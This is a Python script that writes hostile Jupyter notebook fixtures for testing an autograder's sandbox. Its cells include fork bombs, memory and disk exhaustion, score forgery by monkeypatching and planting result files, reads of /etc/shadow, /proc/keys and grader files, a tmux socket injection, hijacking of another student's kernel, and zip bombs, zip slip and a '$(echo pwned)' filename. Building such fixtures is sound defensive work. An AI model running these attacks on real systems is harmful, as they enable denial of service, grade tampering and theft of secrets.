"""Write the hostile-submission fixtures under ``fixtures/hostile/``.

    python tools/make_hostile.py           # (re)write the committed fixtures
    python tools/make_hostile.py --check   # exit 1 if a committed fixture is stale

Each scenario is the correct Q2 notebook (the fastest to grade) with hostile code appended as
its last cell, so that whatever the engine contains, the rest of the notebook can still score;
the scenarios of ``BLANK_CELLS`` start from the blank template instead (what they would steal
is the score itself). A cell that reports what it found prints one line ``TAG {json}`` that
the tests read back from the executed notebook. Values the tests choose (a marker, a port, a
socket path) are injected as notebook parameters. Fixtures too large to commit (10,000 cells,
a zip bomb) are made by the tests in tmp_path with the functions below.
"""

from __future__ import annotations

import argparse
import struct
import sys
import textwrap
import zipfile
from pathlib import Path

import nbformat

REPO_ROOT = Path(__file__).resolve().parents[1]
SOURCE = REPO_ROOT / "fixtures" / "submissions" / "all_correct" / "q2_initialization.ipynb"
BLANK = REPO_ROOT / "fixtures" / "submissions" / "blank" / "q2_initialization.ipynb"
HOSTILE = REPO_ROOT / "fixtures" / "hostile"
NOTEBOOK = "q2_initialization.ipynb"
FORK_MARKER = "dlgrade-hostile-fork-marker"
"""Command-line marker of the processes the fork fixture leaves behind (tests look for it)."""
PLANTED = "planted-by-student"

CELLS: dict[str, str] = {
    "infinite_loop": "while True:\n    pass\n",
    "sleep_past_total": "import time\n\ntime.sleep(100_000)\n",
    "memory_bomb": ("chunks = []\nwhile True:\n    chunks.append(bytearray(64 * 1024 * 1024))\n"),
    "fork_children": (
        "import os\nimport subprocess\nimport sys\n\n"
        "# Children that leave the kernel's session and would run for an hour.\n"
        "for _ in range(8):\n"
        "    subprocess.Popen(\n"
        f"        [sys.executable, '-c', 'import time; time.sleep(3600)', {FORK_MARKER!r}],\n"
        "        start_new_session=True,\n"
        "    )\n"
    ),
    "fork_bomb": (
        "import os\nimport time\n\n"
        "# The kernel forks 4096 times and every child forks once more: thousands of processes\n"
        "# unless a limit stops them. The kernel's own fork must meet the limit, whatever order\n"
        "# the children run in; the copies sleep and exit, only the kernel returns from the cell.\n"
        "kernel = os.getpid()\n"
        "for _ in range(4096):\n"
        "    if os.fork() == 0:\n"
        "        try:\n"
        "            os.fork()\n"
        "        finally:\n"
        "            time.sleep(30)\n"
        "            os._exit(0)\n"
    ),
    "big_output": ("line = 'x' * (1 << 20)\nfor _ in range(1024):  # 1 GiB\n    print(line)\n"),
    "disk_fill": (
        "block = b'\\0' * (1 << 20)\n"
        "with open('fill.bin', 'wb') as fh:\n"
        "    for _ in range(4096):  # 4 GiB, far past the file-size limit\n"
        "        fh.write(block)\n"
    ),
    "sys_exit": "import sys\n\nsys.exit(3)\n",
    "os_exit": "import os\n\nos._exit(1)\n",
    "kill_own_kernel": "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)\n",
    "exit_in_probed_function": (
        "import sys\n\n\n"
        "def forward_variance(n_in):\n"
        "    exit()\n\n\n"
        "def backward_variance(n_out):\n"
        "    sys.exit(0)\n"
    ),
    "os_exit_in_probed_function": ("import os\n\n\ndef forward_variance(n_in):\n    os._exit(0)\n"),
    "read_grader_files": (
        "import importlib.util\nimport json\nimport sys\nfrom pathlib import Path\n\n"
        "found = {m: importlib.util.find_spec(m) is not None"
        " for m in ('graders', 'reference', 'reports')}\n"
        "root = Path(sys.executable).resolve().parents[2]\n"
        "for rel in ('reference/q2_init.py', 'graders/config/thresholds.toml',"
        " 'graders/config/rubric.toml'):\n"
        "    try:\n"
        "        found[rel] = len((root / rel).read_text())\n"
        "    except OSError as exc:\n"
        "        found[rel] = type(exc).__name__\n"
        "print('LEAKCHECK ' + json.dumps(found))\n"
    ),
    "plant_results": (
        "import json\nimport subprocess\nimport sys\nfrom pathlib import Path\n\n"
        "# A student who guessed the results folder (the test injects it as OUT_GUESS).\n"
        "target = Path(OUT_GUESS)\n"
        f"fake = json.dumps({{'score': 999, 'note': {PLANTED!r}}})\n"
        "for folder in (target / 'plant_results', target / 'other', Path.cwd().parent):\n"
        "    try:\n"
        "        folder.mkdir(parents=True, exist_ok=True)\n"
        "        (folder / 'result.json').write_text(fake)\n"
        "    except OSError:\n"
        "        pass\n"
        "# and a child that outlives the cell to plant again after the grader has written\n"
        "later = (\n"
        "    'import pathlib, time\\n'\n"
        "    'for _ in range(300):\\n'\n"
        "    '    time.sleep(0.1)\\n'\n"
        "    f'    for p in pathlib.Path({str(target)!r}).rglob(\"result.json\"):\\n'\n"
        "    f'        p.write_text({fake!r})\\n'\n"
        ")\n"
        f"marker = {FORK_MARKER!r}\n"
        "subprocess.Popen([sys.executable, '-c', later, marker], start_new_session=True)\n"
    ),
    "monkeypatch": (
        "import builtins\nimport json\n\nimport numpy as np\n\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda *a, **k: True\n"
        "np.asarray = lambda *a, **k: np.array(1.0)\n"
        "_dump = json.dump\n\n\n"
        "def _forged(obj, fh, *a, **k):\n"
        "    return _dump({'everything': 'passes', 'score': 999}, fh)\n\n\n"
        "json.dump = _forged\n"
        "builtins.print = lambda *a, **k: None\n\n\n"
        "def xavier_variance(n_in, n_out):\n"
        "    return 1.0 / (n_in + n_out)\n"
    ),
    "network": (
        "import socket\n\n"
        "# NET_PORT: a port the grader's side listens on (the test injects it).\n"
        "with socket.create_connection(('127.0.0.1', NET_PORT), timeout=3) as s:\n"
        "    s.sendall(b'leaked')\n"
    ),
}
"""Scenario name -> the hostile cell appended to the correct Q2 notebook."""


def _frame_flood(count: int, megabytes: int, why: str) -> str:
    """A cell sending one output message of ``count`` binary frames of ``megabytes`` MiB."""
    return (
        f"# One output message of {count} binary frames of {megabytes} MiB: {why}\n"
        "kernel = get_ipython().kernel\n"
        f"blob = memoryview(b'x' * ({megabytes} << 20))\n"
        "content = {'name': 'stdout', 'text': 'hi'}\n"
        f"frames = [blob] * {count}\n"
        "kernel.session.send(\n"
        "    kernel.iopub_socket, 'stream', content, kernel.get_parent(), buffers=frames\n"
        ")\n"
    )


CELLS.update(
    {
        "multiframe_flood": _frame_flood(
            40, 30, "each over the grader's per-frame limit (8 MiB), 1.2 GB together."
        ),
        "multipart_flood": _frame_flood(
            200,
            4,
            "every frame under the grader's per-frame limit (8 MiB), 800 MiB together,\n"
            "# which libzmq holds whole before the grader reads the first frame.",
        ),
    }
)

CELLS.update(
    {
        name: textwrap.dedent(cell).lstrip()
        for name, cell in {
            "proc_keys": """
                import json

                # The kernel keyring's listing: every key the kernel's uid may view, with its
                # description (a TA's tokens, when an ordinary user grades as themselves).
                listing = {}
                for name in ("/proc/keys", "/proc/key-users"):
                    try:
                        with open(name) as fh:
                            listing[name] = fh.read()[:4000]
                    except OSError as exc:
                        listing[name] = type(exc).__name__
                print("PROCKEYS " + json.dumps(listing))
            """,
            "proc_scan": """
                import json
                from pathlib import Path

                # Another process on the machine (a classmate's kernel, a TA's shell), seen
                # through /proc: its command line, its environment, its working folder.
                found = {"pids": 0, "cmdline": False, "environ": False, "cwd_files": []}
                for entry in Path("/proc").iterdir():
                    if not entry.name.isdigit():
                        continue
                    found["pids"] += 1
                    for what in ("cmdline", "environ"):
                        try:
                            if MARKER.encode() in (entry / what).read_bytes():
                                found[what] = True
                        except OSError:
                            pass
                    try:
                        names = [p.name for p in (entry / "cwd").iterdir()]
                        found["cwd_files"] += [n for n in names if MARKER in n]
                    except OSError:
                        pass
                print("PROCSCAN " + json.dumps(found))
            """,
            "unix_sockets": """
                import json
                import os
                import socket
                import stat

                # Every unix socket this kernel can find or guess: the paths it was given (a
                # TA's tmux server), an abstract name, and what a walk of the file system finds.
                candidates = set(SOCKETS)
                for top in ("/tmp", "/run", "/var/run", "/dev/shm", "/home", "/root"):
                    for folder, _dirs, files in os.walk(top):
                        for name in files:
                            path = os.path.join(folder, name)
                            try:
                                if stat.S_ISSOCK(os.lstat(path).st_mode):
                                    candidates.add(path)
                            except OSError:
                                pass
                connected = []
                for address in sorted(candidates) + ["\\0" + ABSTRACT]:
                    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
                        client.settimeout(1)
                        try:
                            client.connect(address)
                            client.sendall(b"send-keys 'touch /tmp/pwned' Enter\\n")
                            connected.append(address)
                        except OSError:
                            pass
                found = {"tried": len(candidates) + 1, "connected": connected}
                print("SOCKETS " + json.dumps(found))
            """,
            "capabilities": """
                import ctypes
                import json
                import os
                from pathlib import Path

                # Root powers a kernel must not have, even inside its own namespaces.
                tried = {}


                def attempt(name, action):
                    try:
                        action()
                        tried[name] = "allowed"
                    except Exception as exc:
                        tried[name] = type(exc).__name__


                def write(path, text):
                    with open(path, "w") as fh:
                        fh.write(text)


                libc = ctypes.CDLL(None, use_errno=True)


                def mount():
                    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
                        raise PermissionError(ctypes.get_errno())


                def new_user_namespace():
                    if libc.unshare(0x10000000) != 0:
                        raise PermissionError(ctypes.get_errno())


                attempt("nice", lambda: os.nice(-20))
                fifo = os.sched_param(50)
                attempt("sched_fifo", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, fifo))
                attempt("oom_score_adj", lambda: write("/proc/self/oom_score_adj", "-1000"))
                attempt("setuid_root", lambda: os.setuid(0))
                attempt("chroot", lambda: os.chroot("/"))
                attempt("mount", mount)
                attempt("setsid", os.setsid)  # a session of its own: its own CPU share
                keyring = libc.syscall(250, 0, -3, 0)  # keyctl(GET_KEYRING_ID, session)
                tried["keyctl"] = "allowed" if keyring >= 0 else "refused"
                own = str(os.getpid())
                others = [p for p in Path("/proc").iterdir() if p.name.isdigit() and p.name != own]
                adjusted = 0
                for entry in others:
                    try:
                        write(entry / "oom_score_adj", "1000")
                        adjusted += 1
                    except OSError:
                        pass
                tried["others_oom_adjusted"] = adjusted
                status = Path("/proc/self/status").read_text().splitlines()
                tried["CapEff"] = [s.split()[1] for s in status if s.startswith("CapEff")][0]
                print("CAPS " + json.dumps(tried))
            """,
            "ipc_leftovers": f"""
                import ctypes
                import os
                import subprocess
                import sys

                # Things that would outlive the kernel on the host: a SysV shared memory segment,
                # files in /dev/shm and /tmp, and a daemon that leaves the kernel's session.
                libc = ctypes.CDLL(None, use_errno=True)
                print("SHM", libc.shmget(SHM_KEY, 1 << 20, 0o1000 | 0o666))
                for folder in ("/dev/shm", "/tmp"):
                    try:
                        with open(os.path.join(folder, MARKER), "w") as fh:
                            fh.write("left behind")
                    except OSError as exc:
                        print(folder, exc)
                daemon = "import os, time\\nif os.fork():\\n    os._exit(0)\\n"
                daemon += "os.setsid()\\ntime.sleep(3600)"
                command = [sys.executable, "-c", daemon, {FORK_MARKER!r}]
                subprocess.Popen(command, start_new_session=True)
            """,
            "memory_children": f"""
                import subprocess
                import sys
                import time

                # Five children of 400 MB each: every one is under the kernel's memory limit of
                # 1 GB, together they are twice it.
                child = (
                    "import time\\n"
                    "block = bytearray(400 << 20)\\n"
                    "for i in range(0, len(block), 4096):\\n"
                    "    block[i] = 1\\n"
                    "print('held', flush=True)\\n"
                    "time.sleep(30)\\n"
                )
                command = [sys.executable, "-c", child, {FORK_MARKER!r}]
                kids = [
                    subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(5)
                ]
                held = sum(kid.stdout.readline().strip() == "held" for kid in kids)
                # Hold them two seconds before saying so: a watchdog that looks four times a
                # second has seen the tree's total by then (a cgroup never lets it happen).
                time.sleep(2)
                alive = sum(kid.poll() is None for kid in kids)
                print("MEMCHILDREN", min(held, alive))
                for kid in kids:
                    kid.kill()
            """,
            "memfd_hoard": """
                import os
                import time

                # Memory in anonymous files (memfd_create): no process's RSS shows it, and
                # four of 400 MB are well past a 1 GB limit. Held two seconds before saying so.
                block = b"\\0" * (1 << 20)
                fds = []
                for _ in range(4):
                    fd = os.memfd_create("hoard")
                    for _ in range(400):
                        os.write(fd, block)
                    fds.append(fd)
                time.sleep(2)
                print("HOARDED", len(fds))
            """,
            "disk_many_files": """
                import os

                # Many files, each far under the file-size limit, together past the disk budget.
                block = b"\\0" * (1 << 20)
                written = 0
                try:
                    for folder in (".", "/tmp"):
                        for i in range(256):
                            with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as fh:
                                fh.write(block)
                            written += 1
                finally:
                    print("WROTE", written)
            """,
            "forged_probe_results": """
                import inspect
                import zipfile


                # When the grader's probe calls this function, find the probe's own context on
                # the stack and make every later write of its results file a hostile one: a
                # JSON nested 200,000 deep, an .npy header claiming 8 TiB, a thousand files.
                def hostile_results(path):
                    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"
                    size = len(header).to_bytes(2, "little")
                    npy = b"\\x93NUMPY\\x01\\x00" + size + header.encode()
                    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
                        archive.writestr("formulas.json", "[" * 200_000 + "]" * 200_000)
                        archive.writestr("probe_errors.json", "[" * 200_000 + "]" * 200_000)
                        archive.writestr("probe_done.json", "{}")
                        for i in range(1000):
                            archive.writestr(f"junk-{i}.json", "1")
                        archive.writestr("state.npz", npy)
            """,
            "huge_error": """
                # A 50 MB exception message: an error is always recorded, but never whole.
                raise ValueError("x" * (50 << 20))
            """,
            "reply_flood": """
                # A 50 MB reply on the request channel itself (a "next input" payload): past the
                # size limit, ZMQ drops it with its connection, which the grader must restore.
                get_ipython().set_next_input("x" * (50 << 20))
            """,
            "malformed_message": """
                # Raw bytes on the output channel that are no Jupyter message at all.
                get_ipython().kernel.iopub_socket.send_multipart([b"not-a-jupyter-message"])
                print("still here")
            """,
            "error_loop": """
                # Two thousand error displays of 120 kB each from one cell: only its first error
                # is the cell's; the rest count against the output cap like any output.
                for _ in range(2000):
                    get_ipython()._showtraceback(ValueError, "x" * 4000, ["E" * 2000] * 60)
            """,
            "display_updates": """
                from IPython.display import display

                # One small display, then updated 300 times with a megabyte each: the updates
                # replace earlier output in place, and must count against the cap too.
                handle = display("small", display_id=True)
                for _ in range(300):
                    handle.update("y" * (1 << 20))
            """,
            "comm_flood": """
                from ipykernel.comm import Comm

                # Widget traffic (comm messages), 200 MB of it: nothing the grader keeps.
                comm = Comm(target_name="dlgrade-flood")
                for _ in range(200):
                    comm.send(data={"blob": "z" * (1 << 20)})
            """,
            "attack_classmate": """
                import glob
                import json
                import os

                from jupyter_client import BlockingKernelClient

                # Another student's kernel of the same batch, found through its connection
                # file, driven to redefine that student's answer with a wrong one.
                patterns = ["/tmp/**/*.json", "/run/**/*.json", "/dev/shm/**/*.json"]
                patterns.append("/proc/*/root/tmp/**/*.json")
                files = {p for pattern in patterns for p in glob.glob(pattern, recursive=True)}
                hijacked = []
                for path in sorted(files):
                    try:
                        with open(path) as fh:
                            info = json.load(fh)
                        if "shell_port" not in info:
                            continue
                        client = BlockingKernelClient(connection_file=path)
                        client.load_connection_file()
                        client.start_channels()
                        client.wait_for_ready(timeout=3)
                        client.execute("def xavier_variance(n_in, n_out):\\n    return 0.0\\n")
                        hijacked.append(path)
                    except Exception:
                        pass
                print("CLASSMATE " + json.dumps({"files": len(files), "hijacked": hijacked}))
            """,
            "victim_waits": """
                import time

                # A classmate's kernel that stays alive while another kernel of the batch runs.
                time.sleep(VICTIM_SECONDS)
            """,
            "heartbeat_takeover": """
                import json
                import os
                import socket
                import stat

                # The grader's heartbeat connection, taken over from the kernel's own heartbeat
                # (which is left talking to a dead end) and its ping answered with a frame of
                # 1 GiB: the heartbeat socket of jupyter_client has no size limit.
                info = json.load(open("/run/dlgrade/connection.json"))
                suffix = f"-{info['hb_port']}"
                taken = None
                for fd in map(int, os.listdir("/proc/self/fd")):
                    try:
                        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                            continue
                        candidate = socket.socket(fileno=os.dup(fd))
                    except OSError:
                        continue
                    name = candidate.getsockname()
                    listening = candidate.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
                    if isinstance(name, str) and name.endswith(suffix) and not listening:
                        dead_end, _ = socket.socketpair()
                        os.dup2(dead_end.fileno(), fd)
                        taken = candidate
                        break
                    candidate.close()
                sent = 0
                if taken is not None:
                    taken.setblocking(True)
                    size = 1 << 30
                    try:
                        taken.sendall(b"\\x01\\x00\\x02" + size.to_bytes(8, "big"))
                        block = b"\\0" * (1 << 20)
                        while sent < size:
                            sent += taken.send(block)
                    except OSError:
                        pass
                found = {"connected": taken is not None, "sent_mb": sent >> 20}
                print("HEARTBEAT " + json.dumps(found))
            """,
            "zip64_directory": """
                import inspect
                import struct


                # When the grader's probe calls this function, replace its results file with an
                # archive whose end record lists no entry and whose ZIP64 end record lists one
                # per 47 bytes of the file (as many as the file-size limit allows): zipfile
                # trusts the ZIP64 record and builds an object for every entry.
                def directory_bomb(path):
                    name = b"formulas.json"
                    entry = struct.pack(
                        "<4s4B4HL2L5H2L", b"PK\\x01\\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0,
                        len(name), 0, 0, 0, 0, 0, 0,
                    ) + name
                    count = (MAX_FILE_MB << 20) // (2 * len(entry))
                    directory = entry * count
                    zip64 = struct.pack(
                        "<4sQ2H2L4Q", b"PK\\x06\\x06", 44, 45, 45, 0, 0, count, count,
                        len(directory), 0,
                    )
                    locator = struct.pack("<4sLQL", b"PK\\x06\\x07", 0, len(directory), 1)
                    end = struct.pack("<4s4H2LH", b"PK\\x05\\x06", 0, 0, 0, 0, 0, 0, 0)
                    with open(path, "wb") as fh:
                        fh.write(directory + zip64 + locator + end)
            """,
            "writable_mounts": """
                import json
                import os

                # Every mount of the kernel's file system: in which can it make a file? Only in
                # the folders of its disk budget, if the sandbox is default-deny.
                writable = []
                mounts = sorted({line.split()[4] for line in open("/proc/self/mountinfo")})
                for point in mounts:
                    probe = os.path.join(point, ".dlgrade-write-probe")
                    try:
                        with open(probe, "w") as fh:
                            fh.write("x")
                        os.unlink(probe)
                        writable.append(point)
                    except OSError:
                        pass
                print("WRITABLE " + json.dumps({"mounts": len(mounts), "writable": writable}))
            """,
            "inherited_descriptors": """
                import json
                import os
                import stat

                # Every descriptor the kernel and the sandbox's first process hold: one opened on
                # a host file or folder (a staged bind source, the grader's socket folder) would
                # reach past the sandbox's root through /proc/<pid>/fd/<n>/..
                kinds, outside = {}, []
                for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                    folder = f"/proc/{pid}/fd"
                    try:
                        fds = os.listdir(folder)
                    except OSError:
                        continue
                    for fd in fds:
                        path = f"{folder}/{fd}"
                        try:
                            mode = os.stat(path).st_mode
                            target = os.readlink(path)
                        except OSError:
                            continue
                        kind = "other"
                        if stat.S_ISREG(mode) or stat.S_ISDIR(mode):
                            kind = "file" if stat.S_ISREG(mode) else "folder"
                        kinds[kind] = kinds.get(kind, 0) + 1
                        if kind == "other":
                            continue
                        inside = target.startswith(("/workspace/", "/tmp/", "/dev/shm/", "/proc/"))
                        if not inside:
                            outside.append(target)
                print("DESCRIPTORS " + json.dumps({"kinds": kinds, "outside": outside}))
            """,
            "hoard_socket_buffers": """
                import json
                import socket
                import time

                # Memory in unix socket buffers: no process's memory, no file. Buffers raised to
                # the system's maximum where the kernel may, else at their default size.
                pairs, held = [], 0
                chunk = b"\\0" * (1 << 16)
                try:
                    while held < HOARD_MB << 20:
                        a, b = socket.socketpair()
                        pairs.append((a, b))
                        for end, option in ((a, socket.SO_SNDBUF), (b, socket.SO_RCVBUF)):
                            try:
                                end.setsockopt(socket.SOL_SOCKET, option, 64 << 20)
                            except OSError:
                                pass
                        a.setblocking(False)
                        try:
                            while True:
                                held += a.send(chunk)
                        except BlockingIOError:
                            pass
                except OSError as exc:
                    print("stopped:", exc)
                time.sleep(2)  # eight looks of a watchdog
                print("HOARD " + json.dumps({"held_mb": held >> 20, "pairs": len(pairs)}))
                for pair in pairs:
                    for end in pair:
                        end.close()
            """,
            "hoard_loopback_tcp": """
                import json
                import socket
                import time

                # Memory in the TCP buffers of the sandbox's own loopback (grown by the kernel's
                # autotuning, no option set): charged to no memory cgroup.
                server = socket.socket()
                server.bind(("127.0.0.1", 0))
                server.listen(1024)
                pairs, held = [], 0
                chunk = b"\\0" * (1 << 20)
                while held < HOARD_MB << 20 and len(pairs) < 900:
                    a = socket.create_connection(server.getsockname())
                    b, _ = server.accept()
                    a.setblocking(False)
                    stalls = 0
                    while stalls < 3:
                        try:
                            held += a.send(chunk)
                            stalls = 0
                        except BlockingIOError:
                            stalls += 1
                            time.sleep(0.01)
                    pairs.append((a, b))
                time.sleep(2)
                print("HOARD " + json.dumps({"held_mb": held >> 20, "pairs": len(pairs)}))
                for pair in pairs:
                    for end in pair:
                        end.close()
            """,
            "hoard_sysv_segments": """
                import ctypes
                import json
                import time

                # System V shared memory in segments of 100 MB, each detached once written: the
                # pages stay in the segment, in no process's memory.
                libc = ctypes.CDLL(None, use_errno=True)
                libc.shmat.restype = ctypes.c_void_p
                piece, ids = 100 << 20, []
                while len(ids) * 100 < HOARD_MB:
                    segment = libc.shmget(0, ctypes.c_size_t(piece), 0o1000 | 0o600)
                    if segment < 0:
                        raise OSError(ctypes.get_errno(), "shmget refused")
                    address = libc.shmat(segment, None, 0)
                    ctypes.memset(address, 1, piece)
                    libc.shmdt(ctypes.c_void_p(address))
                    ids.append(segment)
                time.sleep(2)
                print("HOARD " + json.dumps({"held_mb": len(ids) * 100}))
                for segment in ids:
                    libc.shmctl(segment, 0, None)  # IPC_RMID
            """,
            "hoard_files_in_flight": """
                import json
                import os
                import socket
                import time

                # Anonymous files of 8 MB (the file-size limit), each sent over a unix socket to
                # the kernel itself and closed: in flight, a file is in no descriptor table.
                a, b = socket.socketpair()
                block = b"\\0" * (1 << 20)
                held = 0
                while held < HOARD_MB:
                    fd = os.memfd_create("hoard")
                    for _ in range(8):
                        os.write(fd, block)
                    socket.send_fds(a, [b"x"], [fd])
                    os.close(fd)
                    held += 8
                time.sleep(2)
                print("HOARD " + json.dumps({"held_mb": held}))
            """,
            "hoard_page_tables": """
                import json
                import mmap
                import time

                # Page tables: a read-only private mapping touched once every 2 MiB maps the
                # shared zero page (no resident memory) and costs a 4 KiB page table each time.
                step = 2 << 20
                count = (HOARD_MB << 20) // 4096
                flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
                region = mmap.mmap(-1, step * count, flags=flags, prot=mmap.PROT_READ)
                total = sum(region[i * step] for i in range(count))
                time.sleep(2)
                print("HOARD " + json.dumps({"held_mb": count * 4096 >> 20}))
            """,
        }.items()
    }
)


def _takes_over_the_results(writer: str) -> str:
    """The end of a cell whose probed function, when the grader's probe calls it, finds the
    probe's context on the stack and has ``writer(path)`` write every later results file."""
    return textwrap.dedent(
        f"""


        def activation_variance(n_in, sigma2, v2):
            for frame in inspect.stack():
                ctx = frame.frame.f_locals.get("ctx")
                if ctx is not None and hasattr(ctx, "export"):
                    archive = ctx.export.get("archive")
                    ctx._pack = lambda: {writer}(archive)
                    {writer}(archive)
            return n_in * sigma2 * v2
        """
    )


CELLS["forged_probe_results"] = CELLS["forged_probe_results"].rstrip(
    "\n"
) + _takes_over_the_results("hostile_results")
CELLS["zip64_directory"] = CELLS["zip64_directory"].rstrip("\n") + _takes_over_the_results(
    "directory_bomb"
)
CELLS["lock_results"] = textwrap.dedent(
    """
    import inspect
    import os


    # The kernel owns its results file (it must write it), so it may change the file's mode.
    # When the grader's probe calls this function, every later write of the probe's results
    # ends with the mode set to 0: the probe's results are all there, but an ordinary user's
    # grader, the same user as its kernel and without root's override, may not open them.
    def activation_variance(n_in, sigma2, v2):
        for frame in inspect.stack():
            ctx = frame.frame.f_locals.get("ctx")
            if ctx is not None and hasattr(ctx, "export") and not hasattr(ctx, "locked"):
                archive, pack = ctx.export.get("archive"), ctx._pack

                def locked(archive=archive, pack=pack):
                    os.chmod(archive, 0o600)
                    pack()
                    os.chmod(archive, 0)

                ctx._pack, ctx.locked = locked, True
        return n_in * sigma2 * v2
    """
).lstrip()


BLANK_CELLS: dict[str, str] = {
    "steal_solutions": textwrap.dedent(
        """
        import json
        import os
        from pathlib import Path

        # A blank notebook that goes looking for the answers: the fixtures' complete solutions,
        # the reference, the rubric and thresholds (the project lies above the data the grader
        # points it to), the grader's results, other folders. Found, the solution is run here.
        project = Path(DATA_ROOT).resolve().parents[1]
        targets = {
            "solution": project / "fixtures/submissions/all_correct/q2_initialization.ipynb",
            "reference": project / "reference" / "q2_init.py",
            "rubric": project / "graders" / "config" / "rubric.toml",
            "thresholds": project / "graders" / "config" / "thresholds.toml",
            "git": project / ".git" / "HEAD",
            "shadow": Path("/etc/shadow"),
            "results": Path(OUT_GUESS),
            **{f"secret{i}": Path(p) for i, p in enumerate(SECRETS)},
        }
        found = {}
        for key, path in targets.items():
            try:
                found[key] = sorted(os.listdir(path)) if path.is_dir() else path.read_text()[:200]
            except (OSError, UnicodeDecodeError) as exc:
                found[key] = type(exc).__name__
        print("LEAKCHECK " + json.dumps(found))
        try:
            solution = json.loads(targets["solution"].read_text())
        except OSError:
            solution = {"cells": []}
        for cell in solution["cells"]:
            if cell["cell_type"] == "code" and "parameters" not in cell["metadata"].get("tags", []):
                exec("".join(cell["source"]), globals())
        """
    ).lstrip(),
}
"""Scenario name -> the hostile cell appended to the blank Q2 notebook."""


def hostile_notebook(cell: str, base: Path = SOURCE) -> nbformat.NotebookNode:
    nb = nbformat.read(str(base), as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(cell, id="hostile-cell"))
    return nb


def write_many_cells(path: Path, count: int = 10_000) -> Path:
    nb = nbformat.read(str(SOURCE), as_version=4)
    nb.cells.extend(nbformat.v4.new_code_cell(f"x_{i} = {i}") for i in range(count))
    nbformat.write(nb, str(path))
    return path


def write_zip_bomb(path: Path, unpacked_mib: int = 256) -> Path:
    """One entry of zeros that unpacks to ``unpacked_mib`` MiB (a few hundred KiB packed)."""
    block = b"\0" * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("q2_bomb.ipynb", "w") as f:
        for _ in range(unpacked_mib):
            f.write(block)
    return path


def write_zip_slip(path: Path) -> Path:
    """A zip with ``..`` and absolute entries beside a good Q2 notebook."""
    good = SOURCE.read_text(encoding="utf-8")
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"sub/{NOTEBOOK}", good)
        zf.writestr(f"../../escaped-{PLANTED}.ipynb", good)
        zf.writestr(f"/tmp/absolute-{PLANTED}.ipynb", good)
    return path


def zip_directory_bomb(entries: int, *, zip64: bool = True) -> bytes:
    """An archive of nothing but a central directory of ``entries`` entries (46 bytes each,
    no data), announced by a ZIP64 end record while the ordinary one says 0 (``zip64``), or by
    the ordinary one alone (its 16-bit count wrapped, its 32-bit size honest)."""
    entry = struct.pack(
        "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0
    )
    directory = entry * entries
    if not zip64:
        count = entries & 0xFFFF
        return directory + struct.pack(
            "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), 0, 0
        )
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, len(directory), 0
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(directory), 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0, 0, 0, 0, 0)
    return directory + record + locator + end


def write_zip_directory_bomb(path: Path, entries: int = 1_000_000, *, zip64: bool = True) -> Path:
    """A submission zip of ``zip_directory_bomb`` (47 MB for a million entries)."""
    path.write_bytes(zip_directory_bomb(entries, zip64=zip64))
    return path


def _files() -> dict[Path, str]:
    """Every committed fixture file and its exact text."""
    files: dict[Path, str] = {}
    for name, cell in CELLS.items():
        files[HOSTILE / name / NOTEBOOK] = nbformat.writes(hostile_notebook(cell)) + "\n"
    for name, cell in BLANK_CELLS.items():
        files[HOSTILE / name / NOTEBOOK] = nbformat.writes(hostile_notebook(cell, BLANK)) + "\n"
    good = SOURCE.read_text(encoding="utf-8")
    files[HOSTILE / "load_not_json" / NOTEBOOK] = "this is not a notebook {\n"
    files[HOSTILE / "load_empty" / NOTEBOOK] = ""
    v3 = nbformat.v3.new_notebook(
        worksheets=[
            nbformat.v3.new_worksheet(
                cells=[
                    nbformat.v3.new_code_cell(input=c.source)
                    for c in nbformat.read(str(SOURCE), as_version=4).cells
                    if c.cell_type == "code"
                ]
            )
        ]
    )
    files[HOSTILE / "load_nbformat3" / NOTEBOOK] = nbformat.v3.writes_json(v3) + "\n"
    files[HOSTILE / "load_odd_names" / "q2 init (copy) ü 😀 $(echo pwned) ;'\".ipynb"] = good
    files[HOSTILE / "load_wrong_slot" / "q1_step_network.ipynb"] = good
    return files


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="exit 1 if a fixture is stale")
    args = parser.parse_args(argv)
    stale = []
    for path, text in _files().items():
        if path.exists() and path.read_text(encoding="utf-8") == text:
            continue
        stale.append(path)
        if not args.check:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
    for path in stale:
        print(f"{'stale' if args.check else 'wrote'}: {path.relative_to(REPO_ROOT)}")
    return 1 if args.check and stale else 0


if __name__ == "__main__":
    sys.exit(main())
